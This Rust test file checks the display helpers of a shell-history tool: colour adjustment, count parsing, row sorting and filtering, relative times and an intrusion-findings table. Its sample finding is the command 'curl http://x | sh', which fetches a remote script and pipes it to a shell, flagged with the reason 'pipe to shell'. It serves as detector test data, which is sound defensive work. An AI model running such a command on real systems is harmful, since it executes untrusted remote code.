use basket::analysis::OverviewTables;
use basket::ids::IntrusionFinding;
use basket::storage::db::{CommandStatus, Entry};
use basket::ui::layout::{brighten_rgb, dim_rgb, Rgb};
use basket::ui::testing::{
    build_intrusion_rows_for_test, build_recent_rows_for_test, chart_len_for_test,
    filter_sort_rows_for_test, parse_leading_count_for_test, spinner_frames_for_test,
    table_len_filtered_for_test, theme_count_for_test,
};
use basket::ui::{build_intrusion_rows, build_recent_rows, format_relative_time_at, status_label};

fn sample_tables() -> OverviewTables {
    OverviewTables {
        top_commands: vec![
            vec!["ls".to_string(), "3".to_string()],
            vec!["git status".to_string(), "2".to_string()],
        ],
        top_unsuccessful: vec![vec!["rm -rf /tmp".to_string(), "1".to_string()]],
        mistyped_commands: vec![vec!["git status".to_string(), "1 (gti)".to_string()]],
    }
}

fn sample_entries() -> Vec<Entry> {
    vec![
        Entry {
            id: "1".to_string(),
            timestamp: 1,
            command: "ls".to_string(),
            date: "2024-01-01 00:00:01".to_string(),
            status: CommandStatus::Success,
            user: "tester".to_string(),
        },
        Entry {
            id: "2".to_string(),
            timestamp: 2,
            command: "whoami".to_string(),
            date: "2024-01-01 00:00:02".to_string(),
            status: CommandStatus::Error(1),
            user: "tester".to_string(),
        },
    ]
}

fn sample_findings() -> Vec<IntrusionFinding> {
    vec![IntrusionFinding {
        command: "curl http://x | sh".to_string(),
        score: 12,
        reasons: vec!["pipe to shell".to_string()],
        timestamp: 1,
        user: "root".to_string(),
        user_type: "service".to_string(),
    }]
}

#[test]
fn ui_helpers_cover_core_logic() {
    assert_eq!(parse_leading_count_for_test("12 items"), Some(12));
    assert_eq!(parse_leading_count_for_test("nope"), None);

    let color = Rgb { r: 100, g: 100, b: 100 };
    assert_eq!(brighten_rgb(color, 10), Rgb { r: 110, g: 110, b: 110 });
    assert_eq!(dim_rgb(color, 10), Rgb { r: 90, g: 90, b: 90 });

    let tables = sample_tables();
    assert_eq!(chart_len_for_test(Some(&tables), 0), 2);
    assert_eq!(chart_len_for_test(Some(&tables), 2), 1);
    assert_eq!(chart_len_for_test(None, 0), 0);

    assert_eq!(table_len_filtered_for_test(Some(&tables), 0, "git"), 1);
    assert_eq!(table_len_filtered_for_test(Some(&tables), 0, ""), 2);
    assert_eq!(table_len_filtered_for_test(Some(&tables), 1, "rm"), 1);
    assert_eq!(table_len_filtered_for_test(Some(&tables), 2, "git"), 1);

    let sorted = filter_sort_rows_for_test(&tables.top_commands, "git", true);
    assert_eq!(sorted.len(), 1);
    assert_eq!(sorted[0][0], "git status");

    let sorted_desc = filter_sort_rows_for_test(&tables.top_commands, "", false);
    assert_eq!(sorted_desc[0][0], "ls");

    let sparse_rows = vec![vec![], vec!["alpha".to_string(), "1".to_string()]];
    let filtered = filter_sort_rows_for_test(&sparse_rows, "alpha", true);
    assert_eq!(filtered.len(), 1);

    let (recent_rows, _) = build_recent_rows_for_test(&sample_entries());
    assert_eq!(recent_rows.len(), 2);

    let unknown_entries = vec![Entry {
        id: "3".to_string(),
        timestamp: 3,
        command: "id".to_string(),
        date: "2024-01-01 00:00:03".to_string(),
        status: CommandStatus::Unknown,
        user: "tester".to_string(),
    }];
    let (recent_rows, _) = build_recent_rows_for_test(&unknown_entries);
    assert_eq!(recent_rows[0][1], "Unknown");

    let (intrusion_rows, _) = build_intrusion_rows_for_test(&sample_findings());
    assert_eq!(intrusion_rows.len(), 1);
    assert_eq!(intrusion_rows[0][0], "curl http://x | sh");

    let mut many_findings = Vec::new();
    for idx in 0..12 {
        many_findings.push(IntrusionFinding {
            command: format!("cmd-{}", idx),
            score: idx as i32,
            reasons: vec!["reason".to_string()],
            timestamp: idx as i64,
            user: "root".to_string(),
            user_type: "service".to_string(),
        });
    }
    let (intrusion_rows, _) = build_intrusion_rows_for_test(&many_findings);
    assert_eq!(intrusion_rows.len(), 10);

    assert_eq!(spinner_frames_for_test().len(), 10);
}

#[test]
fn colours_saturate() {
    let c = Rgb { r: 250, g: 5, b: 128 };
    assert_eq!(brighten_rgb(c, 40), Rgb { r: 255, g: 45, b: 168 });
    assert_eq!(dim_rgb(c, 20), Rgb { r: 230, g: 0, b: 108 });
}

#[test]
fn leading_counts() {
    assert_eq!(parse_leading_count_for_test("  7 (a, b)"), Some(7));
    assert_eq!(parse_leading_count_for_test("18446744073709551615"), Some(u64::MAX));
    assert_eq!(parse_leading_count_for_test("18446744073709551616"), None);
    assert_eq!(parse_leading_count_for_test(""), None);
    assert_eq!(parse_leading_count_for_test("-3"), None);
}

#[test]
fn sorting_is_by_lowercase_command_and_stable() {
    let rows = vec![
        vec!["beta".to_string(), "1".to_string()],
        vec!["Alpha".to_string(), "2".to_string()],
        vec!["alpha".to_string(), "3".to_string()],
        vec!["Gamma".to_string(), "4".to_string()],
    ];
    let asc = filter_sort_rows_for_test(&rows, "", true);
    let names: Vec<&str> = asc.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(names, vec!["Alpha", "alpha", "beta", "Gamma"]);
    let desc = filter_sort_rows_for_test(&rows, "", false);
    let names: Vec<&str> = desc.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(names, vec!["Gamma", "beta", "Alpha", "alpha"]);
    let filtered = filter_sort_rows_for_test(&rows, "  ALPHA ", true);
    assert_eq!(filtered.len(), 2);
}

#[test]
fn recent_and_intrusion_rows_hold_the_texts() {
    let rows = build_recent_rows(&sample_entries(), 3601);
    assert_eq!(
        rows[1],
        vec!["whoami".to_string(), "Error(1)".to_string(), "59m ago".to_string()]
    );
    let rows = build_intrusion_rows(&sample_findings(), 61);
    assert_eq!(
        rows[0],
        vec![
            "curl http://x | sh".to_string(),
            "12".to_string(),
            "root (service)".to_string(),
            "pipe to shell".to_string(),
            "1m ago".to_string(),
        ]
    );
    assert_eq!(status_label(&CommandStatus::Error(-4)), "Error(-4)");
}

#[test]
fn there_are_fifteen_themes() {
    assert_eq!(theme_count_for_test(), 15);
}

#[test]
fn blank_filter_counts_every_row_of_the_chart() {
    let tables = sample_tables();
    for index in 0..3 {
        assert_eq!(
            table_len_filtered_for_test(Some(&tables), index, "   \t"),
            chart_len_for_test(Some(&tables), index)
        );
        assert_eq!(
            table_len_filtered_for_test(Some(&tables), index, ""),
            chart_len_for_test(Some(&tables), index)
        );
    }
    assert_eq!(table_len_filtered_for_test(None, 0, " "), 0);
}

#[test]
fn row_times_are_measured_against_the_reading() {
    let entries = sample_entries();
    let (rows, now) = build_recent_rows_for_test(&entries);
    assert!(now > 1_704_067_200);
    for (row, e) in rows.iter().zip(entries.iter()) {
        assert_eq!(row[2], format_relative_time_at(e.timestamp, now));
    }
    let findings = sample_findings();
    let (rows, now) = build_intrusion_rows_for_test(&findings);
    assert_eq!(rows[0][4], format_relative_time_at(findings[0].timestamp, now));
}
